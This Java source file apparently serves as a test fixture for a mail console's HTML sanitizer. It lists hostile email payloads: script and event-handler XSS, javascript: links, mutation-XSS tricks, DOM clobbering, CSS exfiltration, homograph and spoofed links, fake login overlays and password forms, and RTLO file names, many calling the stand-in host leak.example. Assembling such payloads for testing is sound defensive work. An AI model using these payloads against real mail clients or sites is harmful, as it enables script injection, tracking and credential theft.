package org.obhut.console;

import java.util.Arrays;
import java.util.stream.Stream;

/**
 * Mails that would like to run, to be noticed, or to look like the console; our own, after the ways that are known. Each
 * would ask {@code leak.example} for something, or leave a mark called {@code pwned}, if anything let it.
 */
enum HostileMails {
    SCRIPTS("""
            <script>top.pwned=1;alert(1);fetch('https://leak.example/fetch')</script>
            <script src="https://leak.example/script.js"></script><script type=module>import 'https://leak.example/m.js'</script>
            <p onclick="top.pwned=1" onmouseover="top.pwned=1" onpointerenter="top.pwned=1" onfocus="top.pwned=1" tabindex=0 autofocus>Text</p>
            <img src=x onerror="top.pwned=1;new Image().src='https://leak.example/onerror'"><body onload="top.pwned=1" onpageshow="top.pwned=1">
            <details open ontoggle="top.pwned=1"><summary>x</summary></details><marquee onstart="top.pwned=1">x</marquee>
            <video onloadstart="top.pwned=1" src="https://leak.example/v"></video><audio src onerror="top.pwned=1"></audio>
            <input autofocus onfocus="top.pwned=1"><select autofocus onfocus="top.pwned=1"></select><style onload="top.pwned=1"></style>
            <div style="animation-name:x" onanimationstart="top.pwned=1">x</div><xss onbeforescriptexecute="top.pwned=1">x</xss>"""),
    LINKS("""
            <a href="javascript:top.pwned=1">a</a><a href=" &#1;java&#10;script:top.pwned=1">b</a><a href="JaVaScRiPt&colon;top.pwned=1">c</a>
            <a href="data:text/html,<script>top.pwned=1</script>">d</a><a href="vbscript:MsgBox(1)">e</a><a href="blob:x">f</a>
            <a href="https://leak.example/ping" ping="https://leak.example/pinged">g</a><a href="//leak.example/relative">h</a>
            <a href="https://www.sparkasse.de@leak.example/">www.sparkasse.de</a><a href="https://сaritas.de/">caritas</a>
            <a href="/tickets/1/status" target="_top">i</a><a href="#leave-1" target="_parent">j</a><a href="https://leak.example/" target="_self">k</a>
            <map name=m><area shape=default href="javascript:top.pwned=1"></map><img usemap="#m" src="https://leak.example/map">"""),
    MUTATION("""
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1></style></mglyph></form>
            <svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">
            <svg><animate onbegin=top.pwned=1 attributeName=x dur=1s><set onbegin=top.pwned=1 attributeName=x></svg>
            <svg><script>top.pwned=1</script><foreignObject><iframe srcdoc="<script>top.pwned=1</script>"></iframe></foreignObject></svg>
            <svg><use href="https://leak.example/use#x"/><image href="https://leak.example/image"/><a xlink:href="javascript:top.pwned=1"><text>x</text></a></svg>
            <math><maction actiontype="statusline#https://leak.example" xlink:href="javascript:top.pwned=1">x</maction></math>
            <noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript><template><img src=x onerror=top.pwned=1></template>
            <select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=top.pwned=1>"></a>
            <table><td><form><input><div></form><img src=x onerror=top.pwned=1></table><![CDATA[<img src=x onerror=top.pwned=1>]]>"""),
    PLAINTEXT("<xmp><img src=x onerror=top.pwned=1></xmp><noembed><img src=x onerror=top.pwned=1></noembed>"
            + "<noframes><img src=x onerror=top.pwned=1></noframes><title></title><textarea><img src=x onerror=top.pwned=1></textarea>"
            + "<!--><img src=x onerror=top.pwned=1>--><!--[if gte mso 9]><script>top.pwned=1</script><![endif]-->"
            + "<listing>&lt;img src=x onerror=top.pwned=1&gt;</listing><plaintext><img src=x onerror=top.pwned=1>"),
    LOADED("""
            <head><base href="https://leak.example/base/"><meta http-equiv=refresh content="0;url=https://leak.example/refresh">
            <link rel=stylesheet href="https://leak.example/style.css"><link rel=preload as=image href="https://leak.example/preload">
            <link rel=prefetch href="https://leak.example/prefetch"><link rel=dns-prefetch href="https://dns.leak.example">
            <link rel=preconnect href="https://leak.example"><link rel=icon href="https://leak.example/icon"><link rel=manifest href="https://leak.example/manifest">
            <link rel=modulepreload href="https://leak.example/mp.js"><link rel=import href="https://leak.example/import">
            <meta http-equiv=Content-Security-Policy content="img-src *"><meta name=referrer content=unsafe-url></head>
            <img src="https://leak.example/pixel.gif" width=1 height=1><img src="//leak.example/relative.gif"><img srcset="https://leak.example/2x 2x" src="cid:none">
            <img src="cid:https://leak.example/"><img src=" https://leak.example/blank.gif"><img loading=eager src="http://leak.example/plain.gif">
            <picture><source srcset="https://leak.example/p.webp"><img></picture><input type=image src="https://leak.example/input">
            <table background="https://leak.example/table"><td background="https://leak.example/cell">x</td></table><body background="https://leak.example/body">
            <video poster="https://leak.example/poster" src="https://leak.example/video" autoplay></video><audio src="https://leak.example/audio" autoplay></audio>
            <track src="https://leak.example/track"><embed src="https://leak.example/embed"><object data="https://leak.example/object"></object>
            <applet archive="https://leak.example/applet"></applet><iframe src="https://leak.example/frame"></iframe><frameset><frame src="https://leak.example/set"></frameset>
            <bgsound src="https://leak.example/bgsound"><blockquote cite="https://leak.example/cite">x</blockquote><q cite="https://leak.example/q">x</q>"""),
    STYLES("""
            <style>@import url(https://leak.example/import.css);@font-face{font-family:x;src:url(https://leak.example/font.woff2)}
            body,.ob-top,#desk{display:none!important;background:url(https://leak.example/bg)}*{font-family:x}
            input[value^="a"]{background:url(https://leak.example/a)}[href*="tickets"]{list-style:url(https://leak.example/attribute)}
            .leave{display:block!important}#leave-1::after{content:'caritas.de'}.to{display:none}</style>
            <div style="background:url(https://leak.example/inline);background-image:image-set('https://leak.example/set' 1x);content:url(https://leak.example/c)">x</div>
            <div style="list-style-image:url(https://leak.example/li);cursor:url(https://leak.example/cur),auto;border-image:url(https://leak.example/b);mask:url(https://leak.example/m)">x</div>
            <div style="width:expression(top.pwned=1);behavior:url(https://leak.example/htc);-moz-binding:url(https://leak.example/xbl)">x</div>
            <div style="color:red;}</style><style>*{background:url(https://leak.example/break)}">x</div>
            <div style="font-family:'\\22;background:url(https://leak.example/escape)'">x</div><p style='--x:url("https://leak.example/var");background:var(--x)'>x</p>
            <a href="https://example.org/" style="display:none">versteckt</a><font color="red;background:url(https://leak.example/font)">x</font>"""),
    OVERLAYS("""
            <div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Bitte neu anmelden</div>
            <div style="position:absolute;top:-500px;left:-500px;width:9999px;height:9999px;background:red">x</div>
            <div style="margin:-900px;transform:scale(50);opacity:.01;clip-path:none;overflow:visible;float:left">x</div>
            <dialog open style="position:fixed">x</dialog><div popover=manual id=pop>x</div><button popovertarget=pop>x</button>
            <div style="width:9999px;height:9999px;background:#eee">groß</div><center style="letter-spacing:999px">x</center>
            <div class="ob-top" style="position:sticky;top:0">x</div><section class="leave" id="leave-1">Echt: caritas.de</section>"""),
    FORMS("""
            <form action="https://leak.example/form" method=post><input name=passphrase type=password value=x><button formaction="javascript:top.pwned=1">Anmelden</button></form>
            <form action="/tickets/1/notes" method=post id=composer><textarea name=text>x</textarea><input type=submit></form>
            <input form=composer name=_csrf value=x><isindex action="https://leak.example/isindex"><keygen name=x>
            <label for=reply-text>Hier klicken</label><button form=reply type=submit>x</button>"""),
    CLOBBERING("""
            <a id=desk name=desk>x</a><img name=cookie><form id=document name=body><input name=attributes><input name=nodeName></form>
            <div id=content class="ob-pane">x</div><a id=location href="https://leak.example/">x</a><iframe name=top></iframe><embed name=getElementById>
            <p id=announce>x</p><p id=ticket-title>x</p><a name=leave-1></a><div id=mail>x</div><object id=desk data=x></object>"""),
    HTMX("""
            <div hx-get="/tickets/1" hx-trigger="load" hx-target="body">x</div><div data-hx-get="https://leak.example/hx" data-hx-trigger="load">x</div>
            <div hx-on:htmx:load="top.pwned=1" hx-on::after-request="top.pwned=1" hx-vals="js:{x: top.pwned=1}" hx-swap-oob="true" id="desk">x</div>
            <div hx-ext="sse" sse-connect="https://leak.example/sse" hx-boost=true><a href="/sign-out">x</a></div>
            <div data-live="https://leak.example/live" data-ticket="x" data-write="reply" data-composer="reply">x</div>
            <p>${7*7} @template.live() #{7*7} {{constructor.constructor('top.pwned=1')()}} !{top.pwned=1}</p>"""),
    HUGE("<table>" + "<tr><td colspan=1000 rowspan=65534>x</td></tr>".repeat(400) + "</table>" + "<div>".repeat(4_000)
            + "tief" + "<b><i><u>".repeat(400) + "x" + "&#x202e;".repeat(200) + "Z" + "\u0300".repeat(500)
            + "<p>x</p>".repeat(400));

    /** What else tries to get out, in places that are one line. */
    static final String SUBJECT =
            "\u202e<img src=x onerror=top.pwned=1><b>dringend</b> ${7*7} \u2066\" onmouseover=\"top.pwned=1";

    static final String SENDER = "\u202e</h3><script>top.pwned=1</script><img src=https://leak.example/from>";

    static final String FILE = "\u202egpj.\"><img src=x onerror=top.pwned=1>.exe";

    private final String html;

    HostileMails(String html) {
        this.html = html;
    }

    String html() {
        return "<p>Anfang</p>" + html;
    }

    static Stream<HostileMails> all() {
        return Arrays.stream(values());
    }
}
